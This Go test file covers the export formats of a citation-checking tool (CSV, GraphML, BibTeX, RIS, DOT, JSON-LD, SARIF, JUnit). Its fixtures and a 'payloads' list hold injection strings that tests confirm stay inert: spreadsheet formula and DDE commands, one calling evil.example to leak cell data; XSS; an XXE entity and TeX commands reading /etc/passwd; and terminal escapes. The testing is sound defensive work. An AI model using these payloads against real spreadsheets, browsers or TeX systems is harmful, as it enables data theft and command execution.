package graph

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"flag"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/joshdk/go-junit"
	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"
	jsonld "github.com/piprate/json-gold/ld"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"citecheck/pipeline/cite"
)

var update = flag.Bool("update", false, "write the golden files anew")

// missing skips a test for want of something, which CI does not allow.
func missing(t *testing.T, what string) {
	t.Helper()
	if os.Getenv("CITECHECK_REQUIRE_ALL") == "1" {
		t.Fatalf("needs %s", what)
	}
	t.Skipf("skipped: needs %s", what)
}

// shown is a graph of two reports with one of everything: documents with and
// without dates, a corrigendum, a resolution that refers to another, works of
// several types, a citation left open, findings of every verdict, one of them
// accepted, and names that mean something in TeX, XML and spreadsheets.
func shown(t *testing.T) *Graph {
	t.Helper()
	mali, cote, record, corr := symbol(t, "S/RES/2423"), symbol(t, "S/RES/2000"), symbol(t, "S/PV.8298"), symbol(t, "A/70/95/Corr.1")
	hash := strings.Repeat("a", 64)
	ev := func(place, quote string) *cite.Evidence {
		return &cite.Evidence{Source: cite.Source{Name: "builtin", SHA256: hash}, Place: place, Quote: quote}
	}
	web := &cite.Evidence{Source: cite.Source{URL: "https://digitallibrary.un.org/record/1?ln=en&x=1", SHA256: hash, Fetched: "2026-11-23T18:00:00Z"}, Place: "paragraph 3", Quote: "five <regional> offices"}
	note := func(label, text, sentence string, page int, cs ...cite.Citation) cite.Note {
		n := cite.Note{Label: label, Placement: cite.PlaceFoot, Page: page, Pages: []int{page}, Text: text, Citations: cs}
		for i := range cs {
			if cs[i].Text == "" {
				cs[i].Text = text
			}
			cs[i].Span = cite.Span{Start: 0, End: len([]rune(cs[i].Text))}
		}
		if sentence != "" {
			n.Markers = []cite.Marker{{Page: page, Sentence: sentence, Quotes: []string{}, Years: []int{2019}}}
		}
		return n
	}
	open := cite.Finding{Check: "short-form", Verdict: cite.Questioned, Reason: "note 2 cites two sources"}
	r := cite.Report{File: "länder & \"règles\".pdf", Files: []string{"länder & \"règles\".pdf"}, SHA256: strings.Repeat("b", 64), MediaType: "application/pdf", Title: "Lessons <from> Mali & elsewhere", Pages: 9}
	r.Findings = []cite.Finding{{Check: "numbering", Verdict: cite.Questioned, Claimed: "4", Reason: "label 4 is skipped"}}
	r.Notes = []cite.Note{
		note("1", "Resolution 2423 (June 28, 2018), para. 38.", "This led to the decision in 2019 to expand.", 1, cite.Citation{Symbol: mali, Via: cite.ViaName,
			Pinpoints: []cite.Pin{{Unit: cite.UnitPara, From: 38, To: 40, Sub: "(d)"}}, Claims: cite.Claims{Number: 2423, Date: cite.Date{Year: 2018, Month: 6, Day: 28}},
			Findings: []cite.Finding{{Check: "exists", Verdict: cite.Verified, Reason: "listed", Evidence: ev("S/RES/2423", "2018-06-28")},
				{Check: "year-agrees", Verdict: cite.Questioned, Claimed: "in 2019", Found: "2018-06-28", Reason: "the sentence dates the decision to 2019", Candidates: []string{"un:S/RES/2480"}}}}),
		note("2", "S/RES/2000 (July 27, 2012); S/PV.8298.", "“=cmd|' /C calc'!A0” he said.", 2,
			cite.Citation{Text: "S/RES/2000 (July 27, 2012)", Symbol: cote, Via: cite.ViaSymbol, Findings: []cite.Finding{{Check: "date-agrees", Verdict: cite.Contradicted, Claimed: "2012-07-27", Found: "2011-07-27",
				Reason: "the note dates S/RES/2000 (2011) to 27 July 2012; it is dated 27 July 2011", Evidence: ev("S/RES/2000", "2011-07-27"), Suggestion: "S/RES/2000 (July 27, 2011)"}}},
			cite.Citation{Text: "S/PV.8298", Symbol: record, Via: cite.ViaSymbol, Findings: []cite.Finding{{Check: "exists", Verdict: cite.Unreachable, Reason: "offline"}}}),
		note("3", "Müller & Sons, 100% of $5_{x} #1 ~ \\input{/etc/passwd}, Nature.", "", 2, cite.Citation{Via: cite.ViaCSL, Work: &cite.Work{Type: "article-journal", Title: `100% of $5_{x} #1 ~ ^ \input{/etc/passwd}`,
			Author: []cite.Name{{Family: "Müller", Given: "Anna-Lena"}, {Literal: "Sons and Daughters, Inc."}}, ContainerTitle: "Nature & Science", Volume: "12", Issue: "3", Page: "17–19", DOI: "10.1000/x_y",
			Issued: &cite.CSLDate{DateParts: [][]int{{2022, 7, 15}}}}, Findings: []cite.Finding{{Check: "exists", Verdict: cite.Unverifiable, Reason: "a journal article"}}}),
		note("5", "Ibid.", "", 3, cite.Citation{Via: cite.ViaIbid, Open: &open, Findings: []cite.Finding{open}}),
		note("6", "A/70/95/Corr.1; a page", "", 3, cite.Citation{Text: "A/70/95/Corr.1", Symbol: corr, Via: cite.ViaSymbol, Findings: []cite.Finding{{Check: "quote-appears", Verdict: cite.Verified, Claimed: "five", Found: "five", Reason: "it stands there", Evidence: web}}},
			cite.Citation{Text: "a page", Via: cite.ViaURL, Work: &cite.Work{Type: "webpage", Title: "A page", URL: "javascript:alert(1)", Author: []cite.Name{{Literal: "BBC News"}}},
				Findings: []cite.Finding{{Check: "exists", Verdict: cite.NotFound, Claimed: "a page", Reason: "no such page", Evidence: web}}}),
	}
	r.Notes[4].Findings = []cite.Finding{{Check: "style", Verdict: cite.Questioned, Claimed: "6", Reason: "a comma is missing"}}
	answers := map[cite.Symbol]*cite.Answer{
		mali: {Symbol: mali, Outcome: cite.Found, Document: &cite.Document{Symbol: mali, Printed: "S/RES/2423 (2018)", Year: 2018, Number: 2423, Series: "resolution", Date: cite.Date{Year: 2018, Month: 6, Day: 28},
			Body: "Security Council", Topic: "The situation in Mali", Meeting: "8298", Vote: "15-0-0", Sources: []cite.Source{{Name: "builtin", SHA256: hash}}}},
		cote: {Symbol: cote, Outcome: cite.Found, Document: &cite.Document{Symbol: cote, Printed: "S/RES/2000 (2011)", Year: 2011, Number: 2000, Series: "resolution", Date: cite.Date{Year: 2011, Month: 7, Day: 27},
			Body: "Security Council", Topic: "The situation in Côte d’Ivoire", Sources: []cite.Source{{Name: "builtin", SHA256: hash}}}},
	}
	r2 := cite.Report{File: "b.docx", Files: []string{"b.docx"}, SHA256: strings.Repeat("c", 64), MediaType: "application/x", Notes: []cite.Note{
		note("1", "S/RES/2423 (2018).", "", 0, cite.Citation{Symbol: mali, Via: cite.ViaSymbol, Findings: []cite.Finding{{Check: "exists", Verdict: cite.Verified, Reason: "listed", Evidence: ev("S/RES/2423", "2018-06-28")}}})}}
	r2.Notes[0].Pages = nil
	g := Merge("citecheck v0", Build("citecheck v0", r, answers), Build("citecheck v0", r2, answers))
	g.Edges = append(g.Edges, Edge{Source: "un:S/RES/2423", Target: "un:S/RES/2000", Key: "pp.4", Relation: "refers", Place: "preamble 4"},
		Edge{Source: "un:S/RES/2423", Target: "un:S/RES/2000", Key: "op.7", Relation: "refers", Place: "paragraph 7"})
	g.Problems = append(g.Problems, cite.Problem{Stage: "read", Item: "b.docx", Reason: "a part is broken"})
	for _, e := range g.Edges {
		if e.Cites != nil && e.Findings[0].Check == "date-agrees" {
			e.Findings[0].Accepted = &Accepted{Reason: "quoted as printed; =not a formula"}
		}
	}
	g.Recount()
	return g
}

func export(t *testing.T, name string, g *Graph) []byte {
	t.Helper()
	i := slices.IndexFunc(Exports, func(e Export) bool { return e.Name == name })
	var b bytes.Buffer
	if err := Exports[i].Write(&b, g); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return b.Bytes()
}

// TestExportGolden holds each format to its golden file, and to a second run.
func TestExportGolden(t *testing.T) {
	g := shown(t)
	if err := Validate(bytes.NewReader(write(t, g))); err != nil {
		t.Fatal(err)
	}
	for _, e := range Exports {
		got := export(t, e.Name, g)
		if !bytes.Equal(got, export(t, e.Name, g)) {
			t.Errorf("%s: two runs write other bytes", e.Name)
		}
		path := filepath.Join("..", "..", "testdata", "golden", "export", e.Name+".txt")
		if *update {
			if err := os.WriteFile(path, got, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from %s; run go test -update ./pipeline/graph and read the difference", e.Name, path)
		}
	}
}

// relations counts edges by their relation.
func relations(g *Graph) map[string]int {
	out := map[string]int{}
	for _, e := range g.Edges {
		out[e.Relation]++
	}
	return out
}

// python is one that has networkx; another may stand before Debian's.
func python(t *testing.T) string {
	t.Helper()
	for _, p := range []string{"/usr/bin/python3", "python3"} {
		if exec.Command(p, "-c", "import networkx").Run() == nil {
			return p
		}
	}
	missing(t, "networkx (Debian's python3-networkx)")
	return ""
}

func TestGraphMLInNetworkx(t *testing.T) {
	g := shown(t)
	const script = `
import sys, networkx
g = networkx.read_graphml(sys.argv[1], force_multigraph=True)
kinds = [k for _, k in g.nodes(data="kind")]
print(g.number_of_nodes(), g.number_of_edges(), kinds.count("note"), None in kinds, g.is_directed())
doc = g.nodes["un:S/RES/2423"]
print(doc["label"], doc["year"] + 1, doc["title"])
print(sorted(d["verdict"] for _, _, d in g.edges(data=True) if d["relation"] == "cites"))
`
	path := filepath.Join(t.TempDir(), "g.graphml")
	os.WriteFile(path, export(t, "graphml", g), 0o644)
	out, err := exec.Command(python(t), "-c", script, path).CombinedOutput()
	if err != nil {
		t.Fatalf("networkx: %v\n%s", err, out)
	}
	var verdicts []string
	for _, e := range g.Edges {
		if e.Cites != nil {
			verdicts = append(verdicts, "'"+string(e.Verdict)+"'")
		}
	}
	slices.Sort(verdicts)
	want := fmt.Sprintf("%d %d %d False True\nS/RES/2423 (2018) 2019 The situation in Mali\n[%s]\n", len(g.Nodes), len(g.Edges), g.Meta.Notes, strings.Join(verdicts, ", "))
	if string(out) != want {
		t.Errorf("networkx reads\n%swant\n%s", out, want)
	}
}

// readers runs a reader of testdata/tools.
func readers(t *testing.T, form string, data []byte) (got struct {
	Count int
	Items []map[string]any
	APA   []string
}) {
	t.Helper()
	dir := filepath.Join("..", "..", "testdata", "tools")
	if _, err := os.Stat(filepath.Join(dir, "node_modules", "@citation-js", "core")); err != nil {
		missing(t, "npm packages: npm ci --prefix testdata/tools")
	}
	cmd := exec.Command("node", filepath.Join(dir, "readers.mjs"), form)
	cmd.Stdin = bytes.NewReader(data)
	var errs bytes.Buffer
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s: %v\n%s", form, err, errs.Bytes())
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatal(err)
	}
	return got
}

// cited counts the documents and works of a graph.
func cited(g *Graph) (n int) {
	for _, x := range g.Nodes {
		if x.Document != nil || x.Work != nil {
			n++
		}
	}
	return n
}

func TestBibliographiesReadBack(t *testing.T) {
	g := shown(t)
	find := func(items []map[string]any, field, value string) map[string]any {
		for _, it := range items {
			if fmt.Sprint(it[field]) == value {
				return it
			}
		}
		t.Errorf("no item has %s %q: %v", field, value, items)
		return map[string]any{}
	}
	const hard = `100% of $5_{x} #1 ~ ^ \input{/etc/passwd}`
	for _, form := range []string{"csl", "bibtex", "ris"} {
		got := readers(t, form, export(t, form, g))
		if got.Count != cited(g) {
			t.Errorf("%s: %d items, want %d", form, got.Count, cited(g))
		}
		mali := find(got.Items, "title", "Resolution 2423 (2018): The situation in Mali")
		if author := fmt.Sprint(mali["author"]); !strings.Contains(author, "United Nations Security Council") {
			t.Errorf("%s: the resolution's author is %s", form, author)
		}
		if mali["type"] != "report" || !strings.Contains(fmt.Sprint(mali["issued"]), "[2018 6 28]") {
			t.Errorf("%s: the resolution is read as %v", form, mali)
		}
		if form != "ris" && mali["number"] != "S/RES/2423 (2018)" {
			t.Errorf("%s: the resolution's number is %v", form, mali["number"])
		}
		find(got.Items, "title", hard)
		if form == "csl" {
			if i := slices.IndexFunc(got.APA, func(s string) bool { return strings.Contains(s, "situation in Mali") }); i < 0 ||
				!strings.HasPrefix(got.APA[i], "United Nations Security Council. (2018). Resolution 2423 (2018): The situation in Mali (Resolution S/RES/2423 (2018))") {
				t.Errorf("citeproc sets the resolution as %q", got.APA)
			}
		}
	}
}

func TestDOTInGraphviz(t *testing.T) {
	if _, err := exec.LookPath("gc"); err != nil {
		missing(t, "graphviz")
	}
	g := shown(t)
	cmd := exec.Command("gc", "-n", "-e")
	cmd.Stdin = bytes.NewReader(export(t, "dot", g))
	out, err := cmd.CombinedOutput()
	if f := strings.Fields(string(out)); err != nil || len(f) < 2 || f[0] != strconv.Itoa(len(g.Nodes)) || f[1] != strconv.Itoa(len(g.Edges)) {
		t.Errorf("graphviz counts %q (%v), want %d nodes and %d edges", out, err, len(g.Nodes), len(g.Edges))
	}
}

func TestJSONLDExpanded(t *testing.T) {
	g := shown(t)
	var doc any
	if err := json.Unmarshal(export(t, "jsonld", g), &doc); err != nil {
		t.Fatal(err)
	}
	opt := jsonld.NewJsonLdOptions("")
	opt.DocumentLoader = noLoader{}
	flat, err := jsonld.NewJsonLdProcessor().Flatten(doc, nil, opt)
	if err != nil {
		t.Fatal(err)
	}
	byID := map[string]map[string]any{}
	for _, x := range flat.([]any) {
		m := x.(map[string]any)
		byID[m["@id"].(string)] = m
	}
	values := func(m map[string]any, p string) (out []string) {
		list, _ := m[p].([]any)
		for _, v := range list {
			switch v := v.(type) {
			case string:
				out = append(out, v)
			case map[string]any:
				if id, ok := v["@id"]; ok {
					out = append(out, id.(string))
				} else {
					out = append(out, fmt.Sprint(v["@value"]))
				}
			}
		}
		return out
	}
	const spar, term = "http://purl.org/spar/", "urn:citecheck:term:"
	nodes, rel := 0, map[string]int{}
	for id, m := range byID {
		kind := values(m, term+"kind")
		if len(kind) > 0 {
			nodes++
		}
		if slices.Equal(kind, []string{"report"}) {
			rel["has_note"] += len(values(m, "http://purl.org/vocab/frbr/core#part"))
		}
		if slices.Contains(values(m, "@type"), spar+"cito/Citation") {
			rel[strings.Join(values(m, term+"relation"), " ")]++
			for _, p := range []string{"hasCitingEntity", "hasCitedEntity"} {
				if to := values(m, spar+"cito/"+p); len(to) != 1 || byID[to[0]] == nil {
					t.Errorf("%s: %s is %q", id, p, to)
				}
			}
		}
		rel["corrects"] += len(values(m, spar+"cito/corrects"))
		for p := range m {
			if !strings.Contains(p, ":") && !strings.HasPrefix(p, "@") {
				t.Errorf("%s: the term %s has no IRI", id, p)
			}
		}
	}
	want := relations(g)
	if nodes != len(g.Nodes) || fmt.Sprint(rel) != fmt.Sprint(want) {
		t.Errorf("%d nodes and edges %v, want %d and %v", nodes, rel, len(g.Nodes), want)
	}
	// From the sentence over its marker and the note's reference to the document.
	at := "urn:citecheck:report:" + strings.Repeat("b", 64) + "#n1"
	sentence := byID[at+"/sentence-1"]
	for _, step := range []string{"c4o/isContextOf", "c4o/denotes", "biro/references"} {
		next := values(sentence, spar+step)
		if len(next) != 1 || byID[next[0]] == nil {
			t.Fatalf("%s leads to %q", step, next)
		}
		sentence = byID[next[0]]
	}
	if got := values(sentence, "http://purl.org/dc/terms/title"); !slices.Equal(got, []string{"The situation in Mali"}) {
		t.Errorf("the sentence leads to %q", got)
	}
}

// noLoader refuses to load a context: what is exported needs no network.
type noLoader struct{}

func (noLoader) LoadDocument(u string) (*jsonld.RemoteDocument, error) {
	return nil, fmt.Errorf("the JSON-LD asks for %s", u)
}

func TestSARIFHoldsToItsSchema(t *testing.T) {
	g := shown(t)
	data := export(t, "sarif", g)
	rep, err := sarif.FromBytes(data)
	if err != nil {
		t.Fatal(err)
	}
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if err := sarifSchema(t).Validate(v); err != nil {
		t.Error(err)
	}
	v.(map[string]any)["runs"].([]any)[0].(map[string]any)["results"].([]any)[0].(map[string]any)["level"] = "fatal"
	if sarifSchema(t).Validate(v) == nil {
		t.Error("the schema lets through a level that SARIF has not")
	}
	levels := map[string]int{}
	suppressed := 0
	for _, r := range rep.Runs[0].Results {
		levels[r.Level]++
		suppressed += len(r.Suppressions)
	}
	want := map[string]int{}
	g.eachFinding(func(_ *Note, _ *Report, _ *Edge, f Finding) {
		switch {
		case f.Verdict.Rank() <= cite.NotFound.Rank():
			want["error"]++
		case f.Verdict == cite.Questioned:
			want["warning"]++
		case f.Verdict == cite.Unreachable:
			want["none"]++
		}
	})
	if fmt.Sprint(levels) != fmt.Sprint(want) || suppressed != 1 {
		t.Errorf("levels are %v, want %v; %d suppressed, want 1", levels, want, suppressed)
	}
	if p := rep.Runs[0].Properties; fmt.Sprint(p.Properties["nodes"], p.Properties["edges"]) != fmt.Sprint(len(g.Nodes), len(g.Edges)) {
		t.Errorf("the run counts %v", p.Properties)
	}
}

func TestJUnitReadBack(t *testing.T) {
	g := shown(t)
	suites, err := junit.Ingest(export(t, "junit", g))
	if err != nil {
		t.Fatal(err)
	}
	got := map[junit.Status]int{}
	for _, s := range suites {
		for _, c := range s.Tests {
			got[c.Status]++
		}
	}
	want := map[junit.Status]int{}
	for _, e := range g.Edges {
		if e.Cites != nil {
			want[map[string]junit.Status{"": junit.StatusPassed, "failure": junit.StatusFailed, "skipped": junit.StatusSkipped}[junitEnd(e)]]++
		}
	}
	if len(suites) != g.Meta.Reports || fmt.Sprint(got) != fmt.Sprint(want) || got[junit.StatusFailed] != 1 {
		t.Errorf("%d suites with %v, want %d with %v", len(suites), got, g.Meta.Reports, want)
	}
}

// sarifSchema is the schema that OASIS publishes, as go-sarif carries it. The
// module's own check does not hold the bytes to it, but what it would write
// itself.
func sarifSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	dir, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/owenrumney/go-sarif/v3").Output()
	if err != nil {
		t.Fatal(err)
	}
	f, err := parser.ParseFile(token.NewFileSet(), filepath.Join(strings.TrimSpace(string(dir)), "pkg", "report", "v210", "sarif", "schema.go"), nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	ast.Inspect(f, func(n ast.Node) bool {
		if l, ok := n.(*ast.BasicLit); ok && l.Kind == token.STRING {
			s, err := strconv.Unquote(l.Value)
			if err != nil {
				t.Fatal(err)
			}
			text.WriteString(s)
		}
		return true
	})
	doc, err := jsonschema.UnmarshalJSON(strings.NewReader(text.String()))
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("sarif.json", doc); err != nil {
		t.Fatal(err)
	}
	schema, err := c.Compile("sarif.json")
	if err != nil {
		t.Fatal(err)
	}
	return schema
}

// rows reads a table as a spreadsheet does.
func rows(t *testing.T, data []byte) [][]string {
	t.Helper()
	text, ok := bytes.CutPrefix(data, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Error("the table has no mark of its encoding")
	}
	out, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return out[1:]
}

func TestCSVCounts(t *testing.T) {
	g := shown(t)
	findings := 0
	g.eachFinding(func(*Note, *Report, *Edge, Finding) { findings++ })
	for name, want := range map[string]int{"csv": findings, "csv-nodes": len(g.Nodes), "csv-edges": len(g.Edges)} {
		if got := rows(t, export(t, name, g)); len(got) != want {
			t.Errorf("%s has %d rows, want %d", name, len(got), want)
		}
	}
}

// payloads are texts that would become active somewhere: formulas, markup,
// commands of TeX, Graphviz and the terminal, ends of records.
var payloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\u00a0=1+1", "x\n=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", `"=1+1`, `'=1+1`, "%0A=1+1", "\u202e=1+1",
	`<script>alert(1)</script>`, `]]><x/>`, `"/><script>alert(1)</script>`, `&lt;b&gt;&#x3C;`, `<!ENTITY x SYSTEM "file:///etc/passwd">`,
	"\x1b]52;c;cm0gLXJm\x07", "\x1b[2J", "\u009b31m", "a\x00b",
	`\input{/etc/passwd}`, `\write18{id}`, `} @misc{x, title={y}`, "x}\n}\n@misc{evil,\n title={t}", `$\catcode`,
	"x\r\nER  - \r\nTY  - JOUR", `"]; evil [label="x`, `\N\G`, `<<b>x</b>>`, `javascript:alert(1)`,
}

// hostile is a graph whose every text is a payload.
func hostile(p string) *Graph {
	r := cite.Report{File: p, Files: []string{p}, SHA256: strings.Repeat("b", 64), Title: p, Notes: []cite.Note{{Label: "1", Text: p, Placement: cite.PlaceFoot,
		Markers: []cite.Marker{{Sentence: p}}, Citations: []cite.Citation{{Text: p, Via: cite.ViaCSL,
			Work:     &cite.Work{Type: "article-journal", Title: p, ContainerTitle: p, URL: p, DOI: p, Note: p, Volume: p, Page: p, Author: []cite.Name{{Family: p, Given: p}, {Literal: p}}},
			Findings: []cite.Finding{{Check: "exists", Verdict: cite.Questioned, Claimed: p, Found: p, Reason: p, Suggestion: p}}}}}}}
	return Build("citecheck v0", r, nil)
}

// TestPayloadsStayText: no payload becomes active in any format. Each format
// is read back by a reader of its own and has the records that it had.
func TestPayloadsStayText(t *testing.T) {
	for _, p := range payloads {
		g := hostile(p)
		for _, name := range []string{"csv", "csv-nodes", "csv-edges"} {
			for _, row := range rows(t, export(t, name, g)) {
				for _, c := range row {
					begin := strings.TrimLeft(c, " \t\r\n\u00a0\u200b\ufeff\"")
					if strings.ContainsAny(c, "\r\n\x00\x1b\u009b\u202e") || begin != "" && strings.ContainsAny(begin[:1], "=+-@") || strings.HasPrefix(begin, "＝") {
						t.Errorf("%s of %q has the cell %q", name, p, c)
					}
				}
			}
		}
		for _, name := range []string{"graphml", "junit"} {
			known := map[string]bool{"graphml": true, "key": true, "graph": true, "node": true, "edge": true, "data": true,
				"testsuites": true, "testsuite": true, "testcase": true, "skipped": true, "system-out": true, "failure": true}
			d := xml.NewDecoder(bytes.NewReader(export(t, name, g)))
			for {
				tok, err := d.Token()
				if err == io.EOF {
					break
				}
				if err != nil {
					t.Fatalf("%s of %q: %v", name, p, err)
				}
				switch e := tok.(type) {
				case xml.StartElement:
					if !known[e.Name.Local] {
						t.Errorf("%s of %q has an element %s", name, p, e.Name.Local)
					}
				case xml.Directive, xml.Comment:
					t.Errorf("%s of %q has %s", name, p, tok)
				}
			}
		}
		dot := string(export(t, "dot", g))
		if strings.Contains(unquoted(dot), "evil") || strings.Contains(unquoted(dot), "<") || strings.Contains(dot, "javascript:alert(1)\", tooltip") {
			t.Errorf("dot of %q: %s", p, dot)
		}
		bib := string(export(t, "bibtex", g))
		if n := strings.Count(bib, "\n@") + strings.Count(bib, "\n}\n") - 1; n != 0 || strings.Contains(bib, `\input`) || strings.Contains(bib, `\write`) || strings.Contains(bib, `\catcode`) {
			t.Errorf("bibtex of %q: %s", p, bib)
		}
		if ris := string(export(t, "ris", g)); strings.Count(ris, "\r\nER  - ") != 1 || strings.Count(ris, "TY  - ") != 1+strings.Count(line(p), "TY  - ")*strings.Count(ris, line(p)) {
			t.Errorf("ris of %q: %q", p, ris)
		}
		for _, e := range Exports {
			if out := export(t, e.Name, g); bytes.ContainsAny(out, "\x00\x1b\u009b") {
				t.Errorf("%s of %q would steer a terminal", e.Name, p)
			}
		}
	}
}

// unquoted is DOT without its quoted strings.
func unquoted(s string) string {
	var b strings.Builder
	in := false
	for i := 0; i < len(s); i++ {
		switch {
		case in && s[i] == '\\':
			i++
		case s[i] == '"':
			in = !in
		case !in:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// FuzzCell: a cell is one line and never begins as a formula does.
func FuzzCell(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := cell(s)
		if strings.ContainsAny(c, "\r\n") || c != "" && strings.ContainsAny(strings.TrimSpace(c + "x")[:1], "=+-@") {
			t.Errorf("cell(%q) = %q", s, c)
		}
	})
}
